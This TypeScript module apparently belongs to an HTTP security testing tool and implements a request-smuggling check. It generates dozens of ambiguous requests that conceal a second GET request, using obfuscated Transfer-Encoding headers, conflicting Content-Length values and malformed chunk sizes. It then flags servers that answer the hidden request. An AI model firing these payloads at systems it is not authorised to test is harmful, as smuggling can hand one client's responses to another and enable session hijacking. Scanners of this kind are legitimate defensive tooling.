import { type Attack, CONCURRENCY, forEach } from "../attack.ts";
import { parseResponses } from "../http/response.ts";
import { ownHost, sendBytes, type Target } from "../target.ts";

export const smuggling: Attack = {
  name: "request-smuggling",
  about: "requests that two servers may end at different bytes",
  meaning: "A request can hide another one, whose response another client then gets.",
  noun: "requests",
  verb: "hid another request",
  needs: ["disturb"],

  async run(target, tally) {
    await forEach(ambiguous(target), CONCURRENCY, async ([what, request]) => {
      tally.tried();
      const { bytes, ended } = await sendBytes(target, request, ["POST", "GET"]);
      const responses = parseResponses(
        bytes,
        ["POST", "GET"],
        ended === "timeout" ? "open" : "closed",
      );
      // A 400 or 408 as the second response means that the server detected the problem.
      const hidden = responses[1];
      if (hidden !== undefined && hidden.status !== 400 && hidden.status !== 408) {
        tally.gotThrough(`${what}: the hidden request got status ${hidden.status}`);
      }
    });
  },
};

type Ambiguous = readonly [what: string, request: string];

/** Spellings that some servers parse as chunked and others do not. */
const spellings: readonly string[] = [
  "Transfer-Encoding: chunked",
  "Transfer-Encoding : chunked",
  "Transfer-Encoding\t: chunked",
  " Transfer-Encoding: chunked",
  "Transfer-Encoding:chunked",
  "Transfer-Encoding:\tchunked",
  "Transfer-Encoding: xchunked",
  "Transfer-Encoding: chunked, identity",
  "Transfer-Encoding: identity, chunked",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
  "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
  "Transfer-Encoding: gzip, chunked",
  "Transfer-Encoding: Chunked",
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: 'chunked'",
  "Transfer-Encoding: chunked;q=1",
  "Transfer-Encoding: chunked\u000b",
  "Transfer-Encoding: \u000bchunked",
  "Transfer-Encoding: chunked\0",
  "Transfer-Encoding:\r\n chunked",
  "Transfer-Encoding\r\n : chunked",
  "X: y\nTransfer-Encoding: chunked",
  "X: y\rTransfer-Encoding: chunked",
  "Transfer-Encoding: chunked\r",
];

/** Not Transfer-Encoding to any server, so Content-Length must decide. */
const otherNames: readonly string[] = [
  "Transfer_Encoding: chunked",
  "Foo: bar\r\n\tTransfer-Encoding: chunked",
  "Content-Encoding: chunked",
  "TE: chunked",
];

const lengths: readonly string[] = [
  "Content-Length: 0\r\nContent-Length: {all}",
  "Content-Length: {all}\r\nContent-Length: 0",
  "Content-Length: 0, {all}",
  "Content-Length: +{all}",
  "Content-Length: -1",
  "Content-Length: 0x0",
  "Content-Length: 0 {all}",
  "Content-Length : {all}",
  "Content-Length: 1e1",
  "Content-Length:\r\n {all}",
  "Content-Length: {all}\nContent-Length: 0",
  "Content-Length: 99999999999999999999",
];

function ambiguous(target: Target): readonly Ambiguous[] {
  const host = `Host: ${ownHost(target)}`;
  const hidden = `GET ${target.base}/login HTTP/1.1\r\n${host}\r\nConnection: close\r\n\r\n`;
  const post = (headers: string, body: string): string =>
    `POST ${target.base}/logout HTTP/1.1\r\n${host}\r\n${headers}\r\n\r\n${body}`;
  const afterEnd = `0\r\n\r\n${hidden}`;
  const inChunk = `${hidden.length.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`;
  const sizeLine = `${hidden.length.toString(16)}\r\n`.length;
  const shown = (text: string): string => JSON.stringify(text).slice(1, -1);
  return [
    ...spellings.flatMap((spelling): readonly Ambiguous[] => [
      [
        `Content-Length before ${shown(spelling)}`,
        post(`Content-Length: ${afterEnd.length}\r\n${spelling}`, afterEnd),
      ],
      [
        `${shown(spelling)} before Content-Length`,
        post(`${spelling}\r\nContent-Length: ${sizeLine}`, inChunk),
      ],
    ]),
    ...otherNames.map(
      (line): Ambiguous => [
        shown(line),
        post(`Content-Length: ${afterEnd.length}\r\n${line}`, afterEnd),
      ],
    ),
    // A server that takes the shorter of two lengths parses the body as a request.
    ...lengths.map(
      (line): Ambiguous => [
        shown(line),
        post(line.replace("{all}", String(hidden.length)), hidden),
      ],
    ),
    ...chunkForms(hidden).map(
      ([what, body]): Ambiguous => [what, post("Transfer-Encoding: chunked", body)],
    ),
    [
      "a body after GET",
      `GET ${target.base}/logout HTTP/1.1\r\n${host}\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`,
    ],
    [
      "HTTP/1.0 with chunks",
      post("Transfer-Encoding: chunked", inChunk).replace("HTTP/1.1", "HTTP/1.0"),
    ],
  ];
}

/** Chunk sizes in spellings that may hide what follows. */
function chunkForms(hidden: string): readonly Ambiguous[] {
  const size = hidden.length.toString(16);
  const end = "\r\n0\r\n\r\n";
  return [
    ["a chunk extension with a line break", `${size};a=\n${hidden}${end}`],
    ["a chunk extension", `${size};a="\r\n"\r\n${hidden}${end}`],
    ["a chunk size with 0x", `0x${size}\r\n${hidden}${end}`],
    ["a chunk size with a sign", `+${size}\r\n${hidden}${end}`],
    ["a negative chunk size", `-1\r\n${hidden}${end}`],
    ["a chunk size with a space", `${size} \r\n${hidden}${end}`],
    ["a chunk size beyond 64 bits", `1000000000000000${size}\r\n${hidden}${end}`],
    ["a chunk size with an underscore", `0_${size}\r\n${hidden}${end}`],
    ["a chunk ended by LF", `${size}\n${hidden}\n0\n\n`],
  ];
}
